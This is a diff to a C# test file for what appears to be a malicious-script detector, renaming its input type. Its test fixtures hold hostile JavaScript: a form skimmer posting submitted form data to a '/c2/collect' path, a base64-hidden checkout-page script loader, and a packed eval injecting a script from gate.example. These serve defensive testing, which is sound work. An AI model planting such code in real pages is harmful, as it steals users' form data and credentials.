@@ -16,7 +16,7 @@ public sealed class RuleFixtureTests
     [MemberData(nameof(Malicious))]
     public void What_a_rule_is_made_for_is_malicious(string rule, string source)
     {
-        var judgement = Judge.Judge(new ScriptToJudge { Source = source });
+        var judgement = Judge.Judge(new ScriptInput { Source = source });
 
         Assert.Contains(judgement.Findings, finding => finding.Rule == rule);
         Assert.Equal(VerdictKind.Malicious, judgement.Verdict);
@@ -26,7 +26,7 @@ public sealed class RuleFixtureTests
     [MemberData(nameof(Honest))]
     public void The_honest_code_that_looks_like_it_is_clean(string rule, string source)
     {
-        var judgement = Judge.Judge(new ScriptToJudge { Source = source });
+        var judgement = Judge.Judge(new ScriptInput { Source = source });
 
         Assert.DoesNotContain(judgement.Findings, finding => finding.Rule == rule && finding.Severity >= Severity.Medium);
         Assert.Equal(VerdictKind.Clean, judgement.Verdict);
@@ -37,7 +37,7 @@ public sealed class RuleFixtureTests
     {
         const string Source = "var exfilUrl = location.origin + '/c2/collect'; document.addEventListener('submit', function (e) { fetch(exfilUrl, { method: 'POST', body: new FormData(e.target) }); });";
 
-        var judgement = Judge.Judge(new ScriptToJudge { Source = Source });
+        var judgement = Judge.Judge(new ScriptInput { Source = Source });
 
         Assert.Contains(judgement.Findings, finding => finding.Rule == "names-itself");
         Assert.NotEqual(VerdictKind.Clean, judgement.Verdict);
@@ -50,7 +50,7 @@ public sealed class RuleFixtureTests
     [InlineData("This file was ) removed by ( the administrator ]]", false)]
     public void Code_that_does_not_parse_is_judged_by_its_words_or_unknown(string source, bool malicious)
     {
-        var judgement = Judge.Judge(new ScriptToJudge { Source = source });
+        var judgement = Judge.Judge(new ScriptInput { Source = source });
 
         Assert.Equal(malicious ? VerdictKind.Malicious : VerdictKind.Unknown, judgement.Verdict);
     }
@@ -64,7 +64,7 @@ public sealed class RuleFixtureTests
         const string Tag = "<script src=\"https://cdn.state-of-it.example/a.js\"></script>";
         var escaped = string.Concat(Tag.Select(letter => letters || letter is '<' or '>' or '"' ? $"%{(int)letter:X2}" : letter.ToString()));
 
-        var judgement = Judge.Judge(new ScriptToJudge { Source = $"document.write(unescape('{escaped}'));" });
+        var judgement = Judge.Judge(new ScriptInput { Source = $"document.write(unescape('{escaped}'));" });
 
         Assert.Equal(expected, judgement.Verdict);
     }
@@ -74,7 +74,7 @@ public sealed class RuleFixtureTests
     {
         const string Source = """<script type=\"text/javascript\">if(/checkout/.test(location.href)){var s=document.createElement(\'script\');s.src=atob(\'aHR0cHM6Ly9lLmV4YW1wbGUvYS5qcw==\');document.head.appendChild(s);}</script>""";
 
-        var judgement = Judge.Judge(new ScriptToJudge { Source = Source });
+        var judgement = Judge.Judge(new ScriptInput { Source = Source });
 
         Assert.Contains(judgement.Findings,
             finding => finding.Rule == "hidden-script-loader" && finding.Title.Contains("e.example", StringComparison.Ordinal));
@@ -88,7 +88,7 @@ public sealed class RuleFixtureTests
             eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};while(c--){if(k[c]){p=p.replace(new RegExp('\b'+e(c)+'\b','g'),k[c])}}return p}('0.1("<2 3=\'4://5.6/7.8?r="+9(0.a)+"\'></2>");',11,11,'document|write|script|src|https|gate|example|x|js|encodeURI|referrer'.split('|'),0,{}))
             """;
 
-        var judgement = Judge.Judge(new ScriptToJudge { Source = Source });
+        var judgement = Judge.Judge(new ScriptInput { Source = Source });
 
         Assert.Contains(judgement.Findings, finding => finding.Evidence.Contains("https://gate.example/x.js", StringComparison.Ordinal));
     }
